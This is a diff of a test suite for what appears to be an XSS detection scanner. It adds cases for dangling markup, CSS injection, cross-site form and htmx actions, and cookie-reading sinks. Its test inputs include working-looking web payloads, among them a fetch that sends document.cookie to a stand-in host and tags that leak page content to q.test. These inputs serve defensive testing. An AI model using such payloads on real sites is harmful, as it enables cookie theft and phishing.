@@ -227,7 +227,7 @@ describe('xss sinks named in prose are not calls', () => {
   // An empty call or a property followed by a space and a word reads as a name in a sentence;
   // anything else after it (punctuation, the end of the value, a word glued on) is code.
   const hits = ['alert()', 'alert();', "';alert()//", 'alert() </script>', 'alert().then(x)', 'x=alert()+1', 'alert()x',
-    'document.cookie', 'x=document.cookie;', 'document.cookie+1', '"+document.cookie+"', 'document.cookie //', 'alert(1) is fun', 'alert( x) y'];
+    'document.cookie', 'x=document.cookie;', 'document.cookie+1', '"+document.cookie+"', 'document.cookie //', 'alert(x) is fun', 'alert( x) y'];
   it.each(hits)('%s is a js sink', (input) => {
     expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('xss.js-sink');
   });
@@ -239,6 +239,8 @@ describe('xss sinks named in prose are not calls', () => {
     const r = d.scan('x=alert();', { context: 'query' });
     expect(r.threats.find((t) => t.ruleId === 'xss.js-sink')).toMatchObject({ offset: 2, length: 7 }); // alert()
     expect(d.scan('alert(1)', { context: 'query' }).threats.find((t) => t.ruleId === 'xss.js-sink')).toMatchObject({ offset: 0, length: 6 }); // alert(
+    expect(d.scan('alert(x)', { context: 'query' }).threats.find((t) => t.ruleId === 'xss.js-sink')).toMatchObject({ offset: 0, length: 6 });
+    expect(d.scan('alert(1) is fun; alert();', { context: 'query' }).threats.find((t) => t.ruleId === 'xss.js-sink')).toMatchObject({ offset: 17, length: 7 }); // alert() (not the older call's '(')
   });
   it('gives the same verdict split anywhere', () => { expectSameWhenSplit(d, [...hits, 'The alert() function shows a dialog', 'document.cookie policy']); });
 });
@@ -356,6 +358,96 @@ describe('xss: a style attribute holding declarations only', () => {
     '<p style="color:red', '<x style="background:url(\'x\')">', '<div style="width:1px;\nheight:2px">', '<i style="a:b/*c*/">', "<p style=\"x:5'a'\">"];
   it.each(hits)('%s reports the style attribute', (input) => {
     expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('xss.style-attribute');
+  });
+  it('gives the same findings split anywhere', () => { expectSameWhenSplit(d, [...clean, ...hits]); });
+});
+
+describe('xss: dangling markup (a tag whose single-quoted attribute value is still open at the end)', () => {
+  // the browser reads the page after the value into the attribute up to the next ' and sends it with the URL;
+  // a value left open with " (pages quote their own attributes that way) is as often a field cut short
+  const hits = ["<img src='//q.test/log?h=", "<qq background='//q.test/?", "<base target='", "\"><meta http-equiv=refresh content='0;url=//q.test/?"];
+  it.each(hits)('%s is blocked as dangling markup', (input) => {
+    const r = d.scan(input, { context: 'query' });
+    expect(ruleIds(r)).toContain('xss.dangling-markup');
+    expect(r.blocked).toBe(true);
+  });
+  const clean = ['<a href="https://example.com/watch?v=', "<img src='a.png' alt='it's me'>", "<b title='x'>y</b>", "it's <b>bold</b>, isn't it", "<p title=it's"];
+  it.each(clean)('%s is no dangling markup', (input) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).not.toContain('xss.dangling-markup');
+  });
+  it('gives the same findings split anywhere', () => { expectSameWhenSplit(d, [...hits, ...clean]); });
+});
+
+describe('xss: a dialog call with a number, and an empty string written to innerHTML, named in prose', () => {
+  // zz(1) is held as zz() is: a space and a word after it is prose; anything else (or the end) runs it.
+  // el.innerHTML = '' writes no markup; any other value (a name, a string with content) is reported as before
+  const clean = ['my alert(1) test works in the console', 'prompt(42) returns the text', "element.innerHTML = '' clears the list", 'el.innerHTML="" is fast', 'el.outerHTML = `` then'];
+  it.each(clean)('%s is allowed', (input) => {
+    const r = d.scan(input, { context: 'query' });
+    expect(ruleIds(r)).not.toContain('xss.js-sink');
+    expect(r.blocked).toBe(false);
+  });
+  const hits = ['alert(1)', 'alert(1) //', 'confirm(1)x', 'alert(1);x', 'alert(1', "el.innerHTML = q", "el.innerHTML='<b>'", 'el.innerHTML = "x"', "el.innerHTML='", 'el.innerHTML =', "el.innerHTML=''%2Bq", 'el.innerHTML = "" %2B q', '<qq onerror=alert(1) src=a>'];
+  it.each(hits)('%s reports the sink', (input) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('xss.js-sink');
+  });
+  it('gives the same findings split anywhere', () => { expectSameWhenSplit(d, [...clean, ...hits]); });
+});
+
+describe('xss: CSS injected into a style sheet that loads from another site', () => {
+  // a '}' closing a rule the value never opened, a '{' opening a new one, then url() (where CSS writes it) to //host or http(s)://host
+  const hits = ['}*{background:url(//q.test/a)}', "';}qq[value^=a]{background-image:url('https://q.test/a')}", '}q{@import url(//q.test/a.css)}',
+    '} q { a: b, url( "http://q.test/x") }'];
+  it.each(hits)('%s is a css injection', (input) => {
+    const r = d.scan(input, { context: 'query' });
+    expect(ruleIds(r)).toContain('xss.css-expression');
+    expect(r.blocked).toBe(true);
+  });
+  const clean = ['.hero{background:url(/img/banner.jpg) no-repeat center}', 'a{b:url(//q.test/x)}', '}*{background:url(/img/x.png)}', "} else { x = 'url(//q.test/a)' }",
+    '@font-face{font-family:Roboto;src:url(https://fonts.q.test/r.woff2)}', '} q {background:url (//q.test)}', '}{q:url(http)}'];
+  it.each(clean)('%s is no css injection', (input) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).not.toContain('xss.css-expression');
+  });
+  it('gives the same findings split anywhere', () => { expectSameWhenSplit(d, [...hits, ...clean]); });
+});
+
+describe('xss: a form action or htmx request attribute pointing to another site', () => {
+  // a form is an ordinary tag now; its action (or hx-get hx-post hx-put hx-patch hx-delete) sending to //host or
+  // http(s)://host is a phishing form or markup fetched from the attacker into the page
+  const hits = ['<form action=//q.test/login><input name=p type=password>', '<form action = "https://q.test/">', '<qq hx-get="//q.test/x" hx-trigger=load>',
+    '<qq data-hx-post=http://q.test/a>', "<form method=post action='HTTPS://q.test'>", '<qq hx-delete="//q.test">'];
+  it.each(hits)('%s is blocked as a dangerous tag', (input) => {
+    const r = d.scan(input, { context: 'query' });
+    expect(ruleIds(r)).toContain('xss.dangerous-tag');
+    expect(r.blocked).toBe(true);
+  });
+  const clean = ['<form action="/search" method="get"><input name="q"><button>Search</button></form>', '<qq hx-get="/search" hx-trigger="keyup">',
+    '<a href="/x?action=//q">', '<input value="action=//q">', 'action=//q.test', '<form action=/a//b>', '<qq hx-target="//q">', '<qq hx-get=httpx://q>'];
+  it.each(clean)('%s is no dangerous tag', (input) => {
+    const r = d.scan(input, { context: 'query' });
+    expect(ruleIds(r)).not.toContain('xss.dangerous-tag');
+    expect(r.blocked).toBe(false);
+  });
+  it('gives the same findings split anywhere', () => { expectSameWhenSplit(d, [...hits, ...clean]); });
+});
+
+describe('xss: a member of a held property stays held', () => {
+  // location.hash.slice(1) and document.cookie.length named in a sentence (a space and a word after them) are prose;
+  // anything else after the member or its call reports the property, spanned as the property
+  const clean = ['location.hash.slice(1) gives me the anchor', 'document.cookie.length is zero in Safari', 'document.cookie. Then it is gone',
+    'location.search.substring(1) returns the query'];
+  it.each(clean)('%s is allowed', (input) => {
+    const r = d.scan(input, { context: 'query' });
+    expect(ruleIds(r)).not.toContain('xss.js-sink');
+    expect(r.blocked).toBe(false);
+  });
+  const hits = ["document.cookie.split(';')", 'location=location.hash.slice(1)', "fetch('//q?'+document.cookie.slice(1))", 'document.cookie.length',
+    'x(document.cookie.length)', 'document.cookie.zz(q) is', 'document.cookie.slice(1)+1', "document.body.innerHTML = ''", 'window.location.href'];
+  it.each(hits)('%s reports the property', (input) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('xss.js-sink');
+  });
+  it('spans the property', () => {
+    expect(d.scan("document.cookie.split(';')", { context: 'query' }).threats.find((t) => t.ruleId === 'xss.js-sink')).toMatchObject({ offset: 0, length: 15 });
   });
   it('gives the same findings split anywhere', () => { expectSameWhenSplit(d, [...clean, ...hits]); });
 });
